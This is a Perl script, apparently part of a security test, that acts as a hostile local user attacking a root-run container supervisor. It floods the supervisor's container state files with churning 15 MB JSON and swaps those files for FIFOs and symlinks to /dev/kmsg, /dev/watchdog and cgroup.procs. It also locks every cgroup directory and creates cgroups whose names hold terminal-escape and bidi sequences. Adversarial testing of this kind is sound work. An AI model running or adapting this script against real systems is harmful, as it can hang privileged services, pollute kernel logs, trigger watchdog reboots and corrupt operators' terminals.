#!/usr/bin/perl
# attack.pl STORAGE TREE: what a local user can do to a cgwarden that runs as root, until it is ended.
# STORAGE is the user's folder of container state, TREE a cgroup that is delegated to the user.
use strict;
use warnings;
use Fcntl qw(:flock :mode O_RDONLY O_NONBLOCK);

my ($storage, $tree) = @ARGV;
my @drivers = qw(overlay vfs btrfs zfs);
my @files   = map { ("$storage/$_-containers/containers.json", "$storage/$_-containers/volatile-containers.json") } @drivers;
my $round   = 0;
$| = 1;

sub identifier { join '', map { sprintf '%x', int rand 16 } 1 .. 64 }

# A valid file of 15 MB in which each container has another name than a moment ago.
my $entries = join ',', map { sprintf '{"id":"%s","names":["web%d"],"metadata":"{\"image-name\":\"i\"}"}', identifier(), $_ } 1 .. 500;
my $bulk = '[' . join(',', ($entries) x int(15e6 / length $entries)) . ']';

sub fill {
    my $file = shift;
    unlink $file;
    open my $out, '>', $file or return;
    print $out $bulk;
    close $out;
}

# Whoever opens one of these without looking waits, writes to the kernel's log, or arms a watchdog.
sub disguise {
    my $file = shift;
    unlink $file;
    my $kind = $round % 4;
    if    ($kind == 0) { system 'mkfifo', $file }
    elsif ($kind == 1) { symlink '/dev/kmsg',     $file }
    elsif ($kind == 2) { symlink '/dev/watchdog', $file }
    else               { symlink "$tree/cgroup.procs", $file }
}

my %locks;    # by the directory's path

# Locks every directory of the whole tree that the user may open: all of them.
sub lock_below {
    my $directory = shift;
    unless ($locks{$directory}) {
        if (sysopen my $handle, $directory, O_RDONLY | O_NONBLOCK) {
            $locks{$directory} = $handle if flock $handle, LOCK_EX | LOCK_NB;
        }
    }
    opendir my $listing, $directory or return;
    my @below = grep { !/^\.\.?$/ && -d "$directory/$_" } readdir $listing;
    closedir $listing;
    lock_below("$directory/$_") for @below;
}

# Cgroups with the names of containers, and with names that move a terminal's cursor.
sub churn {
    my @names = map { 'libpod-' . identifier() . '.scope' } 1 .. 20;
    push @names, "esc\e[31mred\e[2J", "bidi\x{e2}\x{80}\x{ae}txt", "cr\rover", "byte\xff\xfe";
    mkdir "$tree/$_" for @names;
    opendir my $listing, $tree or return;
    my @old = grep { /^libpod-/ } readdir $listing;
    closedir $listing;
    rmdir "$tree/" . splice @old, rand @old, 1 while @old > 200 && rand() < 0.97;
}

$SIG{TERM} = sub { exit 0 };
mkdir $storage;
mkdir "$storage/$_-containers" for @drivers;
fill($_) for @files;
while (1) {
    churn();
    for my $directory (keys %locks) { delete $locks{$directory} unless -d $directory }
    lock_below('/sys/fs/cgroup');
    fill($files[$round % 6]) if $round % 5 == 0;
    disguise($files[6 + $round % 2]);
    $round++;
    # The size of what this round did tells the test that the attack goes on.
    printf "%d %d\n", $round, scalar keys %locks;

    select undef, undef, undef, 1;
}
